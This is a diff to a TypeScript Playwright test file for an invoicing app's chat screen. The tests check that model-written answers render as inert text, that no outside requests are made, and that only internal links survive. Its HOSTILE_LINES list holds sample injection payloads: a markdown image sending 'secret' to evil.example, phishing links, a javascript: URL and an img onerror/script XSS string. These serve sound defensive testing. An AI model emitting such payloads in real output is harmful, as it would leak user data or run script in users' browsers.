@@ -1,5 +1,5 @@
 import type { ServerResponse } from "node:http";
-import type { Page } from "playwright-core";
+import type { Locator, Page } from "playwright-core";
 import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
 import { issuedInvoice } from "../issued-invoice.ts";
 import type { ModelServer } from "../model-server.ts";
@@ -104,7 +104,7 @@ test.each(SIZE_NAMES)("a stop closes the model's connection and keeps what came:
   expect(saves).toEqual([]);
 });
 
-test("a line cut after some words keeps them, says so, and offers to try again", async () => {
+test("an answer whose line is cut keeps its words beside a button to try again", async () => {
   const { log } = await ask("cut");
   (await nextUpstream()).words("Il était une fois");
   await log.getByText("Il était une fois").waitFor();
@@ -114,35 +114,44 @@ test("a line cut after some words keeps them, says so, and offers to try again",
   await log.getByRole("button", { name: "Réessayer" }).waitFor();
 });
 
-test("what a model writes is text, and links lead to our own screens alone", async () => {
-  const { page, log } = await ask("hostile", "desktop");
+const HOSTILE_LINES = [
+  "![logo](https://evil.example/x.png?d=secret)",
+  "[payer ici](https://evil.example/pay)",
+  "[payer là](//evil/pay)",
+  "[ouvrir](javascript:alert)",
+  "[perdu](/nulle/part)",
+  "[sortir](/api/export)",
+  '<img src="https://evil.example/y.png" onerror="document.title=1"><script>document.title=2</script>',
+  "<a href='https://evil.example'>gagné</a>",
+];
+
+/** A model writes hostile lines and one good link. They are checked while they come, and once all has come. */
+async function checkHostileAnswer(name: string, check: (log: Locator) => Promise<void>) {
+  const { page, log } = await ask(name, "desktop");
   const requestedAddresses: string[] = [];
   page.on("request", (request) => requestedAddresses.push(request.url()));
   const answer = await nextUpstream();
-  const lines = [
-    "![logo](https://evil.example/x.png?d=secret)",
-    "[payer ici](https://evil.example/pay)",
-    "[payer là](//evil/pay)",
-    "[ouvrir](javascript:alert)",
-    "[perdu](/nulle/part)",
-    "[sortir](/api/export)",
-    '<img src="https://evil.example/y.png" onerror="document.title=1"><script>document.title=2</script>',
-    "<a href='https://evil.example'>gagné</a>",
-    "[tes factures](/app/invoices)",
-  ];
-  for (const line of lines) answer.words(`${line}\n`);
-  const checkLog = async () => {
-    await log.getByText("<a href='https://evil.example'>gagné</a>").waitFor();
-    const links = log.getByRole("link");
-    await links.first().waitFor();
-    expect(await links.evaluateAll((all) => all.map((link) => link.getAttribute("href")))).toEqual(["/app/invoices"]);
-    expect(await log.locator("img, script, iframe, form, style").count()).toBe(0);
-    const text = (await log.innerText()).replaceAll("\u00a0", " ");
-    for (const line of lines.slice(0, -1)) expect(text).toContain(line);
-  };
-  await checkLog();
+  for (const line of [...HOSTILE_LINES, "[tes factures](/app/invoices)"]) answer.words(`${line}\n`);
+  await log.getByRole("link", { name: "tes factures" }).waitFor();
+  await check(log);
   answer.end();
   await page.getByRole("button", { name: "Envoyer" }).waitFor();
-  await checkLog();
+  await check(log);
+  return requestedAddresses;
+}
+
+test("what a model writes is text", async () => {
+  const requestedAddresses = await checkHostileAnswer("hostile", async (log) => {
+    expect(await log.locator("img, script, iframe, form, style").count()).toBe(0);
+    const text = (await log.innerText()).replaceAll("\u00a0", " ");
+    for (const line of HOSTILE_LINES) expect(text).toContain(line);
+  });
   expect(requestedAddresses.filter((address) => !address.startsWith(site.address))).toEqual([]);
+});
+
+test("links of a model lead to our own screens alone", async () => {
+  await checkHostileAnswer("hostile-links", async (log) => {
+    const links = log.getByRole("link");
+    expect(await links.evaluateAll((all) => all.map((link) => link.getAttribute("href")))).toEqual(["/app/invoices"]);
+  });
 });
